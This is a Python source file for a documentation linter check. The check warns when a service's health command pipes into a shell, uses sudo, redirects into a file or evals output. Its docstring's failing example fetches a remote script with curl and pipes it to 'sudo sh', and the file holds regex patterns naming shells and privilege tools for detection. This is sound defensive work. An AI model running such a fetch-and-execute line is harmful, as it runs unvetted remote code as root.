"""A health command does more than check: it pipes into a shell, uses sudo, or redirects into a file.

The site shows the command with a button that copies it, and labels it as not checked. Commands are compared as text, so
a command that disguises its purpose is not found.

## Why it matters

Readers paste a health command in an incident without reading it twice. It should ask a question and change nothing.

## Fails

```yaml
services:
  api:
    listeners: [{port: 8000, protocol: http, bind: 127.0.0.1, health: "$ curl -s https://x.example/check | sudo sh"}]
```

## Passes

```yaml
services:
  api:
    listeners: [{port: 8000, protocol: http, bind: 127.0.0.1, health: $ pg_isready -q}]
```
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from portdocs.checks._common import Problem, active_listeners, describe, field_location
from portdocs.registry import Registry, Severity

SEVERITY = Severity.WARNING
INSPECTS = ("ports",)

_SHELLS = r"(?:ba|da|z|k|fi|c|tc|a)?sh|python[0-9.]*|perl|ruby|node|php"
_RISKS = {
    "pipes into a shell": re.compile(rf"\|\s*(?:\S*/)?(?:sudo\s+)?(?:env\s+)?(?:\S*/)?(?:{_SHELLS})\b"),
    "uses `sudo`": re.compile(r"\b(?:sudo|doas|su|pkexec)\b"),
    "redirects into a file": re.compile(r">(?!\s*(?:/dev/(?:null|stdout|stderr)\b|&))|\|\s*tee\b"),
    "runs the output of a command": re.compile(r"\b(?:eval|source)\b|<\("),
}


def unsafe_health_command(registry: Registry) -> Iterator[Problem]:
    """One problem for each listener, with all that its command does."""
    for service, listener in active_listeners(registry):
        command = (listener.health or "").removeprefix("$ ") if (listener.health or "").startswith("$ ") else ""
        if risks := [risk for risk, pattern in _RISKS.items() if pattern.search(command)]:
            yield Problem(
                field_location(listener, "health"),
                f"the health command of {service.title} on {describe(listener)} {' and '.join(risks)}",
                "write one that only reads, or accept it with a reason",
                (service, listener),
            )
